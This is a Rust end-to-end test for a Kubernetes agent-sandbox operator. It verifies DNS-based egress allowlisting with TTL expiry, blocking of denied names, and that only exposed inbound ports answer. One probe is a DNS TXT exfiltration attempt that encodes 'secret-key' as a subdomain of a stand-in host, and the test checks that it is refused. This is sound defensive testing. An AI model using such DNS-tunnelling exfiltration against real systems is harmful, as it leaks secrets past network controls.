//! Egress by name on the real cluster: the pod's resolver answers only allowed names (served
//! by the cluster's CoreDNS from the harness's `test` zone, e2e/manifests/coredns.yaml),
//! opens the answered addresses for their bounded TTL, keeps refused names away from CoreDNS
//! and counts them; inbound traffic reaches only the exposed ports, and a datagram sent in
//! opens no way out.

use std::time::{Duration, Instant};

use agentsandbox_e2e::{
    attack_image, runtime_pod, sandbox_manifest, sh, wait_sandbox_ready, wait_until, Cluster,
    IDLE_LOOP,
};
use agentsandbox_operator::api::AgentSandbox;
use kube::Api;

/// The ClusterIPs the `test` zone's names point at.
const ALLOWED_IP: &str = "10.96.200.10";
const DENIED_IP: &str = "10.96.200.11";
const WILD_IP: &str = "10.96.200.12";
/// The zone's IPv6 addresses for the same names: test addresses of the pod subnet
/// (POD_SUBNET6, outside the pool) that the test adds to the target pods themselves.
const ALLOWED_IP6: &str = "fd00:10:244::2:10";
const DENIED_IP6: &str = "fd00:10:244::2:11";

fn target(cluster: &Cluster, ns: &str, name: &str, cluster_ip: &str, ip6: Option<&str>) {
    cluster.greeting_service(ns, name, cluster_ip, &format!("{name}-greeting"));
    if let Some(ip6) = ip6 {
        let pid = cluster.pod_host_pid(ns, name).unwrap().to_string();
        let status = std::process::Command::new("nsenter")
            .args(["-t", &pid, "-n", "ip", "-6", "addr", "add"])
            .args([&format!("{ip6}/64"), "dev", "eth0", "nodad"])
            .status()
            .unwrap();
        assert!(status.success(), "adding {ip6} to {name}");
    }
}

fn coredns_log(cluster: &Cluster) -> String {
    cluster
        .kubectl_ok(&[
            "-n",
            "kube-system",
            "logs",
            "deployment/coredns",
            "--tail=-1",
        ])
        .unwrap_or_default()
}

#[tokio::test]
async fn a_sandbox_reaches_allowed_names_only_for_their_ttl_and_nothing_else_gets_in_or_out() {
    let cluster = Cluster::connect().await;
    let ns = cluster.namespace("egress-names");
    target(&cluster, &ns.name, "allowed", ALLOWED_IP, Some(ALLOWED_IP6));
    target(&cluster, &ns.name, "denied", DENIED_IP, Some(DENIED_IP6));
    target(&cluster, &ns.name, "wild", WILD_IP, None);

    let script = "trap 'exit 0' TERM; nc -ll -p 9090 -e echo exposed-9090 & \
                  nc -ll -p 9091 -e echo hidden-9091 & while true; do sleep 1; done";
    let extra = "  network:\n    egress: Deny\n    egressAllow:\n\
                 \x20   - host: allowed.test\n      ports: [{port: 8080}]\n\
                 \x20   - host: \"*.wild.test\"\n      ports: [{port: 8080}]\n\
                 \x20   hostAddressTTL: {minSeconds: 3, maxSeconds: 5}\n\
                 \x20   expose:\n    - {name: tcp, port: 9090}\n    - {name: udp, port: 9093, protocol: UDP}\n";
    cluster
        .apply(&sandbox_manifest(
            &ns.name,
            "agent",
            &attack_image(),
            &["sh", "-c", script],
            extra,
        ))
        .unwrap();
    let api: Api<AgentSandbox> = Api::namespaced(cluster.client.clone(), &ns.name);
    let sandbox = wait_sandbox_ready(&api, "agent", Duration::from_secs(90))
        .await
        .unwrap();
    let status = sandbox.status.unwrap();
    let pod = status.pod_name.unwrap();
    let pod_ip = status.pod_ip.unwrap();
    let pod_ip6 = cluster
        .pod_field(&ns.name, &pod, "{.status.podIPs[1].ip}")
        .unwrap();
    assert!(
        pod_ip6.contains(':'),
        "the pod has an IPv6 address: {pod_ip6:?}"
    );
    let run = |script: &str| sh(&cluster, &ns.name, &pod, script);

    // Before any lookup the allowed target is closed even by IP: only DNS opens it.
    let (_, reply, _) = run(&format!("nc -w 2 {ALLOWED_IP} 8080"));
    assert!(!reply.contains("allowed-greeting"), "open before resolving");

    // An allowed name resolves, and its address opens for the rule's port.
    let (code, out, err) = run("nslookup allowed.test");
    assert_eq!(code, 0, "allowed.test resolves: {out} {err}");
    assert!(out.contains(ALLOWED_IP), "{out}");
    let opened_at = Instant::now();
    let (_, reply, err) = run(&format!("nc -w 3 {ALLOWED_IP} 8080"));
    assert_eq!(reply.trim(), "allowed-greeting", "allowed by name: {err}");
    let (_, reply, _) = run(&format!("nc -w 2 {ALLOWED_IP} 8081"));
    assert!(reply.trim().is_empty(), "only the rule's port opens");

    // After the TTL (2 s, raised to minSeconds 3) the address closes again...
    let closed = wait_until(
        "the allowed address closes after its TTL",
        Duration::from_secs(30),
        || async {
            let (_, reply, _) = run(&format!("nc -w 1 {ALLOWED_IP} 8080"));
            (!reply.contains("allowed-greeting")).then(Instant::now)
        },
    )
    .await
    .unwrap();
    let open_for = closed.duration_since(opened_at);
    assert!(
        open_for >= Duration::from_secs(2),
        "closed after {open_for:?}"
    );
    // ... and a new lookup opens it again.
    let (_, reply, _) = run(&format!(
        "nslookup allowed.test >/dev/null && nc -w 3 {ALLOWED_IP} 8080"
    ));
    assert_eq!(reply.trim(), "allowed-greeting");

    // IPv6 the same: the AAAA answers of the lookups above opened the address for its TTL;
    // once closed, a new lookup opens it again, for the rule's port only.
    let closes6 = || {
        wait_until(
            "the allowed IPv6 address closes after its TTL",
            Duration::from_secs(30),
            || async {
                let (_, reply, _) = run(&format!("nc -w 1 {ALLOWED_IP6} 8080"));
                (!reply.contains("allowed-greeting")).then_some(())
            },
        )
    };
    closes6().await.unwrap();
    let (_, reply, err) = run(&format!(
        "nslookup allowed.test >/dev/null && nc -w 3 {ALLOWED_IP6} 8080"
    ));
    assert_eq!(
        reply.trim(),
        "allowed-greeting",
        "IPv6 open after the lookup: {err}"
    );
    let (_, reply, _) = run(&format!("nc -w 2 {ALLOWED_IP6} 8081"));
    assert!(reply.trim().is_empty(), "only the rule's port opens (IPv6)");
    closes6().await.unwrap();
    let (_, reply, _) = run(&format!("nc -w 2 {DENIED_IP6} 8080"));
    assert!(
        !reply.contains("denied-greeting"),
        "denied target reached by IPv6"
    );

    // A denied name gets no answer, and its address no connection.
    let (code, out, _) = run("nslookup denied.test");
    assert_ne!(code, 0, "denied.test resolved: {out}");
    assert!(!out.contains(DENIED_IP), "{out}");
    let (_, reply, _) = run(&format!("nc -w 2 {DENIED_IP} 8080"));
    assert!(
        !reply.contains("denied-greeting"),
        "denied target reached by IP"
    );

    // A wildcard matches exactly one label.
    let (code, out, _) = run("nslookup a.wild.test");
    assert_eq!(code, 0, "a.wild.test: {out}");
    let (_, reply, _) = run(&format!("nc -w 3 {WILD_IP} 8080"));
    assert_eq!(reply.trim(), "wild-greeting");
    let (code, out, _) = run("nslookup b.c.wild.test");
    assert_ne!(code, 0, "b.c.wild.test resolved: {out}");

    // A TXT query carrying data never reaches CoreDNS, and no other DNS server is reachable.
    let (code, _, _) = run("nslookup -type=TXT c2VjcmV0LWtleQ.exfil.test");
    assert_ne!(code, 0);
    let coredns_ip = cluster
        .kubectl_ok(&[
            "-n",
            "kube-system",
            "get",
            "pods",
            "-l",
            "k8s-app=kube-dns",
            "-o",
            "jsonpath={.items[0].status.podIP}",
        ])
        .unwrap();
    let (code, out, _) = run(&format!("nslookup allowed.test {}", coredns_ip.trim()));
    assert!(
        code != 0 || !out.contains(ALLOWED_IP),
        "CoreDNS reached directly: {out}"
    );
    let log = coredns_log(&cluster);
    assert!(log.contains("allowed.test."), "CoreDNS logs queries: {log}");
    assert!(
        !log.contains("exfil"),
        "a refused name reached CoreDNS: {log}"
    );
    assert!(
        !log.contains("denied.test"),
        "a refused name reached CoreDNS: {log}"
    );

    // Refused names are counted as network events, without the data they carried.
    let security = wait_until("refused names counted", Duration::from_secs(30), || async {
        let security = api.get("agent").await.ok()?.status?.security?;
        (security
            .attempts_by_category
            .as_ref()?
            .get("network")
            .copied()?
            >= 3)
            .then_some(security)
    })
    .await
    .unwrap();
    let summaries: Vec<String> = security
        .recent_attempts
        .unwrap_or_default()
        .into_iter()
        .filter_map(|a| a.summary)
        .collect();
    assert!(
        summaries
            .iter()
            .any(|s| s == "DNS TXT query refused: *.exfil.test (25 characters)"),
        "{summaries:?}"
    );
    assert!(!summaries.iter().any(|s| s.contains("c2VjcmV0")));

    // Inbound: the exposed port answers, another port is refused.
    cluster
        .apply(&runtime_pod(
            &ns.name,
            "peer",
            None,
            &attack_image(),
            IDLE_LOOP,
        ))
        .unwrap();
    cluster
        .wait_pod(&ns.name, "peer", "condition=Ready")
        .unwrap();
    let peer_ip = cluster
        .pod_field(&ns.name, "peer", "{.status.podIP}")
        .unwrap();
    let peer_ip6 = cluster
        .pod_field(&ns.name, "peer", "{.status.podIPs[1].ip}")
        .unwrap();
    let from_peer = |script: &str| sh(&cluster, &ns.name, "peer", script);
    let (_, reply, _) = from_peer(&format!("nc -w 3 {pod_ip} 9090"));
    assert_eq!(reply.trim(), "exposed-9090");
    let started = Instant::now();
    let (_, reply, _) = from_peer(&format!("nc -w 5 {pod_ip} 9091"));
    assert!(
        reply.trim().is_empty(),
        "non-exposed port answered: {reply}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "refused, not left to time out"
    );

    let (_, reply, _) = from_peer(&format!("nc -w 3 {pod_ip6} 9090"));
    assert_eq!(reply.trim(), "exposed-9090", "exposed port over IPv6");
    let started = Instant::now();
    let (_, reply, _) = from_peer(&format!("nc -w 5 {pod_ip6} 9091"));
    assert!(
        reply.trim().is_empty(),
        "non-exposed port answered over IPv6: {reply}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "refused over IPv6"
    );

    // A datagram sent in opens no way out: both ends send from fixed ports to each other
    // (the sandbox's datagrams to the peer are denied unless they answer the peer's flow);
    // only on an exposed port does the answer get through.
    for (port, exposed, sandbox_ip, peer_ip) in [
        (9093, true, &pod_ip, &peer_ip),
        (9092, false, &pod_ip, &peer_ip),
        (9093, true, &pod_ip6, &peer_ip6),
        (9092, false, &pod_ip6, &peer_ip6),
    ] {
        let chat = |pod: &str, local: u16, ip: &str, remote: u16| {
            cluster.exec(
                &ns.name,
                pod,
                &[
                    "agentsandbox-attack",
                    "udp-chat",
                    &local.to_string(),
                    ip,
                    &remote.to_string(),
                    "4",
                ],
            )
        };
        let (peer_out, sandbox_out) = std::thread::scope(|s| {
            let peer = s.spawn(|| chat("peer", 7777, sandbox_ip, port));
            let sandbox = s.spawn(|| chat(&pod, port, peer_ip, 7777));
            (peer.join().unwrap().1, sandbox.join().unwrap().1)
        });
        assert_eq!(
            sandbox_out.contains("got from-7777"),
            exposed,
            "{sandbox_ip} port {port} (exposed: {exposed}): the sandbox received {sandbox_out:?}"
        );
        assert_eq!(
            peer_out.contains(&format!("got from-{port}")),
            exposed,
            "{sandbox_ip} port {port} (exposed: {exposed}): the peer received {peer_out:?}"
        );
    }
}
